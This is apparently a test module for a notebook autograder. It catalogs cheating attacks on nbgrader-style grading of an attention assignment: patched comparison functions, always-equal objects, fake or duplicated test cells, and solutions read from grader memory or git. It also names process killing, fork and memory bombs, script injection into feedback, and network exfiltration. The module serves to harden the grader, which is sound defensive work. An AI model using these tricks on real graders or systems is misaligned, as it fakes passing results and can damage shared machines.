    """Answer cells claim to be graded cells worth many points, and a fake test cell passes."""
    for cell in nb.cells:
        if grade_id(cell) in (SDPA, SELF) + QUESTIONS:
            cell.metadata["nbgrader"].update(grade=True, points=100)
    fake = nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "points": 1000, "grade_id": "test_bonus", "schema_version": 3}})
    fake["id"] = "bonus"
    nb.cells.append(fake)


def _inject_cells(nb, ctx):
    """New cells: one claiming to be the setup cell, one unmarked, both patching the checks."""
    patch = PATCH_ALLCLOSE + "\n" + PATCH_CHECKS
    setup = nbformat.v4.new_code_cell(patch, metadata={"nbgrader": {
        "grade": False, "solution": False, "locked": True, "grade_id": "setup", "schema_version": 3}})
    setup["id"] = "evil-setup"
    plain = nbformat.v4.new_code_cell(patch)
    plain["id"] = "evil-plain"
    nb.cells.insert(0, setup)
    nb.cells.insert(1, plain)


def _duplicate_answer(nb, ctx):
    """A second copy of the attention answer cell (same grade_id) holds a correct answer; the first stays wrong."""
    i = next(i for i, c in enumerate(nb.cells) if grade_id(c) == SDPA)
    copy_cell = copy.deepcopy(nb.cells[i])
    copy_cell.source = CORRECT_SDPA
    copy_cell["id"] = "sdpa-copy"
    nb.cells.insert(i + 1, copy_cell)
    j = next(i for i, c in enumerate(nb.cells) if grade_id(c) == "answer_score_bytes")
    copy_q = copy.deepcopy(nb.cells[j])
    copy_q.source = RIGHT_QUESTIONS["answer_score_bytes"]
    copy_q["id"] = "bytes-copy"
    nb.cells.insert(j + 1, copy_q)


def _duplicate_tests(nb, ctx):
    """Test cells duplicated, the copies first and empty: a grader that keeps the first copy scores `pass`."""
    for i in reversed(range(len(nb.cells))):
        if is_test(nb.cells[i]):
            dup = copy.deepcopy(nb.cells[i])
            dup.source = "pass"
            dup["id"] = nb.cells[i].get("id", str(i)) + "-dup"
            nb.cells.insert(i, dup)


def _delete_self_attention_cell(nb, ctx):
    nb.cells = [c for c in nb.cells if grade_id(c) != SELF]


CROSS_DEFINED = '''import torch.nn.functional as F
def self_attention(x, w_q, w_k, w_v):
    q, k, v = x @ w_q, x @ w_k, x @ w_v
    weights = torch.softmax(q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1]), dim=-1)
    return F.scaled_dot_product_attention(q, k, v), weights'''


def _mutate_list(*fns):
    def mutate(nb, ctx):
        for fn in fns:
            fn(nb, ctx)
    return mutate


# -- the catalog -----------------------------------------------------------------------------------
ATTACKS = [
    # A4: monkeypatching the checks' building blocks from an answer cell
    Attack("allclose_patched", "torch.allclose/equal/isclose replaced by functions that always agree",
           "grading.md A4; PrairieLearn PR #5184", answers_then(WRONG, append={SDPA: PATCH_ALLCLOSE})),
    Attack("allclose_obfuscated", "the same patch through sys.modules, setattr/getattr with split names, vars() and builtins.__import__",
           "grading.md A4, section 4.2 item 6 (grep-proof variants)", answers_then(WRONG, append={SDPA: PATCH_ALLCLOSE_OBFUSCATED})),
    Attack("check_helpers_patched", "torch.testing.assert_close, attnlab.checks.check_close/check_tensor/implemented_by_hand replaced",
           "grading.md A4", answers_then(WRONG, append={SDPA: PATCH_CHECKS})),
    Attack("tensor_ops_patched", "torch.Tensor.__sub__/abs/max/__gt__/__eq__/any/all and torch.isfinite patched",
           "grading.md A4", answers_then(WRONG, append={SDPA: PATCH_TENSOR_OPS})),
    Attack("softmax_patched", "torch.softmax, Tensor.softmax, F.softmax and torch.matmul patched so the test's reference matches a wrong answer",
           "grading.md A4", answers_then(WRONG, append={SDPA: PATCH_SOFTMAX})),
    Attack("builtins_patched", "builtins.__import__, isinstance, print, float, str and AssertionError replaced",
           "grading.md A4", answers_then(WRONG, append={SDPA: BUILTINS})),
    Attack("exec_obfuscated", "the patches above hidden in a rot13+base64 string run with exec, plus an eval",
           "jupyter/nbgrader#1324 (author: grep for exec)", answers_then(WRONG, append={SDPA: _exec_obfuscated_code()})),
    # A3: objects that lie about equality
    Attack("always_equal_object", "every answer is an object whose __eq__ is always True (and a str subclass that equals anything)",
           "grading.md A3; codewars/codewars-runner-cli#378",
           answers_then(BLANK, replace={SDPA: ALWAYS_EQUAL,
                                       SELF: "def self_attention(x, w_q, w_k, w_v):\n    return AlwaysEqual()",
                                       "answer_score_bytes": "answer_score_bytes = AlwaysEqual()",
                                       "answer_unscaled_variance": "answer_unscaled_variance = AlwaysEqual()",
                                       "answer_shared_projection": 'answer_shared_projection = LyingStr("z")',
                                       "answer_permutation": 'answer_permutation = LyingStr("z")'})),
    Attack("tensor_subclass", "results are a torch.Tensor subclass that says it equals anything, and a Parameter subclass",
           "grading.md 4.2 item 4 (type checks before value checks)", answers_then(WRONG, append={SDPA: TENSOR_SUBCLASS})),
    # A1, A5: IPython hooks
    Attack("ast_transformer", "an IPython AST transformer that turns every assert into pass and every call into None",
           "grading.md A5", answers_then(WRONG, append={SDPA: AST_TRANSFORMER})),
    Attack("input_transformers", "input_transformers_cleanup/post blank later cells; events.register('pre_run_cell'); TransformerManager patched",
           "grading.md A5", answers_then(WRONG, append={SDPA: INPUT_TRANSFORMERS})),
    Attack("showtraceback_patched", "InteractiveShell.showtraceback/showsyntaxerror, sys.excepthook and traceback printing disabled",
           "jupyter/nbgrader#1324; genchang1234/How-to-cheat-in-computer-science-101#8",
           answers_then(BLANK, append={SDPA: SHOWTRACEBACK})),
    # A2, A6, A11: notebook structure and metadata
    Attack("skip_execution_tags", "test cells tagged skip-execution/raises-exception/remove-cell, hidden, editable, execution timeout 0",
           "grading.md A6 (nbclient skip_cells_with_tag)", answers_then(BLANK, mutate=_each_test(_tag_skip))),
    Attack("nbgrader_flags_flipped", "test cells marked grade=false, solution=true, locked=false, task=true",
           "jupyter/nbgrader#1423, #1941", answers_then(BLANK, mutate=_each_test(_flip_flags))),
    Attack("points_changed", "test cells worth 1000 points each", "jupyter/nbgrader#1423", answers_then(WRONG, mutate=_each_test(_points))),
    Attack("grade_id_changed", "test cells get new grade_ids, a zero checksum and an old schema_version",
           "jupyter/nbgrader#1423, #1941", answers_then(BLANK, mutate=_each_test(_rename))),
    Attack("checksum_changed", "every test cell's checksum replaced by the md5 of an empty string", "jupyter/nbgrader#1423",
           answers_then(BLANK, mutate=_each_test(_checksum))),
    Attack("answer_cells_claim_points", "answer cells marked grade=true with 100 points, plus a new 1000-point test cell that passes",
           "jupyter/nbgrader#1423", answers_then(WRONG, mutate=_answers_graded)),
    Attack("tests_commented_out", "every line of every test cell commented out, then pass", "grading.md A2",
           answers_then(BLANK, mutate=_each_test(_comment_out))),
    Attack("tests_deleted", "every test cell deleted", "jupyter/nbgrader#1682", answers_then(BLANK, mutate=_delete_tests)),
    Attack("tests_to_markdown", "every test cell changed to a markdown cell", "jupyter/nbgrader#1423, grading.md A11",
           answers_then(BLANK, mutate=_to_markdown)),
    Attack("cells_injected", "a new cell with grade_id 'setup' and an unmarked cell, both patching the checks", "jupyter/nbgrader#500",
           answers_then(WRONG, mutate=_inject_cells)),
    Attack("test_cells_duplicated", "every test cell preceded by an empty copy with the same grade_id", "jupyter/nbgrader DeduplicateIds",
           answers_then(BLANK, mutate=_duplicate_tests)),
    Attack("answer_cell_duplicated", "a second copy of the attention and bytes answer cells holds a correct answer after a wrong first copy",
           "jupyter/nbgrader DeduplicateIds, #1941", answers_then(WRONG, mutate=_duplicate_answer)),
    Attack("other_name_defined", "the attention cell also defines self_attention (with the forbidden shortcut); the self_attention cell is deleted",
           "grading.md A2", answers_then({SDPA: WRONG_SDPA}, append={SDPA: CROSS_DEFINED}, mutate=_delete_self_attention_cell)),
    # A7
    Attack("hardcoded_visible_tests", "the answer looks up the visible tests' inputs in a table of their outputs",
           "grading.md A7", answers_then(WRONG, append={SDPA: _hardcoded_visible()})),
    Attack("inputs_mutated", "the function zeroes its input tensors in place (in-kernel graders then compare against zeros)",
           "grading.md 4.2 item 1", answers_then(WRONG, replace={SDPA: MUTATE_INPUTS})),
    # A8: reading the tests and solutions
    Attack("read_hidden_files", "reads solutions/, autograder/reference/, *.ipynb, git history, /proc, other results, and prints them hex-encoded",
           "jupyter/nbgrader#917, #1363; PrairieLearn (tests deleted from disk)", answers_then(BLANK, append={SDPA: READ_FILES}),
           checks=("no_leak",)),
    Attack("solution_from_git_history", "runs `git show HEAD:solutions/...` and executes the instructor's solution cells",
           "grading.md A8 (repository history)", answers_then(BLANK, replace={"answer_permutation": SOLUTION_FROM_GIT})),
    Attack("solution_from_disk", "executes the solution cells of solutions/... or of another student's submission, read from disk",
           "grading.md A8; saligrama.io Gradescope write-up", answers_then(BLANK, replace={"answer_permutation": SOLUTION_FROM_DISK})),
    Attack("solution_from_grader_memory", "finds the grader's parsed instructor notebook (frames, autograder.grade._CHAPTERS, gc) and executes its solutions",
           "grading.md A8 (inspect.stack / frames)", answers_then(BLANK, replace={"answer_permutation": SOLUTION_FROM_MEMORY})),
    Attack("tests_from_grader_memory", "prints the hidden tests found in the grader's memory, hex-encoded",
           "grading.md A8", answers_then(BLANK, append={SDPA: TESTS_FROM_MEMORY}), checks=("no_leak",)),
    Attack("inspect_stack", "when called by a test, prints every caller frame's code and locals via inspect.stack() and sys._getframe, hex-encoded",
           "grading.md A8", answers_then(BLANK, replace={SDPA: INSPECT_STACK}), checks=("no_leak",)),
    Attack("reference_from_grader_memory", "uses autograder.reference.attention.sdpa from sys.modules, dying once so the next sandbox is forked after the test imported it",
           "grading.md A8", answers_then(BLANK, replace={SDPA: REFERENCE_FROM_MEMORY})),
    Attack("history_in_ih", "prints In, Out, _ih, _oh, history_manager and IPython history files", "grading.md A8",
           answers_then(BLANK, append={SDPA: HISTORY}), checks=("no_leak",)),
    Attack("grading_mode_detected", "detects grading (NBGRADER_EXECUTION, env, unreadable solutions, PID 1) and only then patches the checks",
           "grading.md A12; nbgrader FAQ", answers_then(WRONG, append={SDPA: ENV_DETECT})),
    Attack("partial_credit_output", "answer cells print a full score and end with a float expression (nbgrader takes the first execute_result as partial credit)",
           "grading.md A14; jupyter/nbgrader#1090, #1410",
           answers_then(WRONG, append={SDPA: 'print("Score: 16 / 16")\n16.0', "answer_score_bytes": "1.0"})),
    # A9, A10: stopping or exhausting the process
    Attack("sys_exit", "SystemExit at the top of the attention cell and sys.exit inside the function", "gradema docs on sys.exit(0)",
           answers_then(WRONG, append={SDPA: SYS_EXIT})),
    Attack("os_exit_top_level", "os._exit(0) at the top of the bytes answer cell", "grading.md A9",
           answers_then(WRONG, append={"answer_score_bytes": OS_EXIT_TOP})),
    Attack("os_exit_in_function", "self_attention calls os._exit(0)", "grading.md A9", answers_then(WRONG, replace={SELF: OS_EXIT_IN_FUNCTION})),
    Attack("kill_parent", "os.kill(os.getppid(), SIGKILL) at the top and inside the function", "grading.md A9",
           answers_then(WRONG, append={SDPA: KILL_PARENT})),
    Attack("kill_everything", "kill -9 -1 (only from PID 1 of its own PID namespace)", "grading.md A9, A13",
           answers_then(WRONG, append={"answer_score_bytes": KILL_ALL})),
    Attack("segfault_top_level", "ctypes.string_at(0) at the top of the variance answer cell", "grading.md A9; sagemathinc/cocalc#4951",
           answers_then(WRONG, append={"answer_unscaled_variance": SEGFAULT_TOP})),
    Attack("segfault_in_function", "ctypes.string_at(0) when called with float64 inputs", "grading.md A9",
           answers_then(WRONG, append={SDPA: SEGFAULT_IN_FUNCTION})),
    Attack("fork_bomb", "16 forked processes that sleep (bounded so the test machine survives)", "grading.md A9",
           answers_then(WRONG, append={SDPA: FORK_BOMB}), checks=("no_survivors",)),
    Attack("memory_bomb", "256 MiB blocks until allocation fails, then torch.empty(10**11); the function allocates 400 GB on 2-D inputs",
           "jupyter/nbgrader#1429", answers_then(WRONG, append={SDPA: MEMORY_BOMB})),
    Attack("memory_bomb_list", "a Python list that grows forever in an answer cell", "jupyter/nbgrader#1429",
           answers_then(WRONG, append={"answer_shared_projection": MEMORY_BOMB_LIST})),
    Attack("infinite_loop_top_level", "while True: pass at the top of the attention cell", "grading.md A10; jupyter/nbgrader#70",
           answers_then(WRONG, append={SDPA: INFINITE_LOOP_TOP})),
    Attack("infinite_loop_in_function", "the function loops forever and swallows every exception", "grading.md A10; otter #469",
           answers_then(BLANK, replace={SDPA: INFINITE_LOOP_IN_FUNCTION})),
    Attack("huge_output", "prints 10^8 characters at the top and 10^7 per call", "jupyter/nbgrader LimitOutput",
           answers_then(WRONG, append={SDPA: HUGE_OUTPUT}), checks=("small_feedback",)),
    Attack("huge_result", "returns a 260 MB tensor (over the 256 MiB message limit), and a list of 300 MB of tensors", "grading.md 4.2 item 2",
           answers_then(BLANK, replace={SDPA: HUGE_RESULT.split("def self_attention")[0],
                                       SELF: "def self_attention" + HUGE_RESULT.split("def self_attention")[1]})),
    Attack("meta_tensor_result", "returns tensors of the right shape and dtype on the 'meta' device (no values)", "codec.py",
           answers_then(BLANK, replace={SDPA: META_TENSOR})),
    Attack("requires_grad_result", "returns tensors that require grad / carry a grad_fn", "codec.py",
           answers_then(WRONG, append={SDPA: REQUIRES_GRAD})),
    Attack("html_injection", "prints and raises HTML that fakes a full score and runs a script in the feedback page", "feedback.py",
           answers_then(BLANK, append={SDPA: HTML_INJECTION}), checks=("no_html",)),
    # A13: escaping the sandbox
    Attack("write_files", "truncates, appends to, deletes and chmods every submission, grades.csv, the results cache and canary files",
           "saligrama.io 'A student's dream' (results.json overwritten)", answers_then(WRONG, append={SDPA: WRITE_FILES}),
           checks=("files",)),
    Attack("modify_repo_files", "rewrites attnlab/checks.py, autograder/*.py, the reference, solutions and a .pyc; adds a .pth file to the venv",
           "grading.md A4 (helper files), A13", answers_then(WRONG, append={SDPA: MODIFY_REPO}), checks=("files",)),
    Attack("network", "TCP/UDP to 127.0.0.1 and this machine's address on a port the test listens on, an abstract unix socket, the internet",
           "grading.md A8, A13 (exfiltration, reverse shell)", answers_then(WRONG, append={SDPA: NETWORK}), checks=("network",)),
]

# A collector that keeps symbolic links (rsync -a, cp -a, tar) hands the grader a link a student made.
ATTACKS.append(Attack("symlinked_notebook", "the submitted notebook is a symbolic link to the instructor's solution notebook",
                      "grading.md 1.3 (collecting from student home folders)", answers_then(BLANK),
                      link_to=lambda ctx: ctx.repo / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"))

# Forbidden library routines: no credit for the items that call them.
for _name, (_setup, _call) in SHORTCUTS.items():
    ATTACKS.append(Attack(f"forbidden_sdpa_{_name}", f"output from F.scaled_dot_product_attention ({_name})",
                          "grading.md 4.2 item 5; PrairieLearn Feedback.not_allowed",
                          answers_then(BLANK, replace={SDPA: shortcut_source(_setup, _call), SELF: CORRECT_SELF})))
ATTACKS.append(Attack("forbidden_multihead_attention", "nn.MultiheadAttention with identity projections computes the attention",
                      "grading.md 4.2 item 5", answers_then(BLANK, replace={SDPA: MHA_SDPA, SELF: CORRECT_SELF})))
for _name, (_setup, _call) in SHORTCUT_BYPASSES.items():
    ATTACKS.append(Attack(f"forbidden_sdpa_{_name}", f"output from the built-in attention routine, past the guard ({_name})",
                          "sandbox.py _Forbidden", answers_then(BLANK, replace={SDPA: shortcut_source(_setup, _call), SELF: CORRECT_SELF})))

# What each attacker's feedback page shows when its trick ran (so a verdict cannot come from a trick
# that broke before doing anything).
SHOWS = {
    "allclose_patched": "TRICK DONE", "allclose_obfuscated": "TRICK DONE", "check_helpers_patched": "TRICK DONE",
    "tensor_ops_patched": "TRICK DONE", "softmax_patched": "TRICK DONE", "builtins_patched": "TRICK DONE",
    "exec_obfuscated": "TRICK DONE", "tensor_subclass": "TRICK DONE LyingTensor", "ast_transformer": "TRICK DONE",
    "input_transformers": "TRICK DONE", "showtraceback_patched": "TRICK DONE", "cells_injected": "",
    "read_hidden_files": "files read:", "solution_from_disk": "cannot read", "history_in_ih": "not available",
    "grading_mode_detected": "grading detected: True", "kill_everything": "pid: 1", "fork_bomb": "forked",
    "memory_bomb": "out of memory after", "huge_output": "more characters not shown",
    "html_injection": "<script>alert(1)</script>", "write_files": "tried", "modify_repo_files": "cannot write",
    "network": "no network to",
}
for _attack in ATTACKS:
    _attack.shows = SHOWS.get(_attack.name, _attack.shows)

BY_NAME = {a.name: a for a in ATTACKS}
assert len(BY_NAME) == len(ATTACKS), "attack names must be unique"


def release_notebook(repo: Path) -> nbformat.NotebookNode:
    return nbformat.read(str(repo / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), as_version=4)


def write_submission(nb: nbformat.NotebookNode, subs: Path, student: str) -> Path:
    path = subs / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(path))
    return path
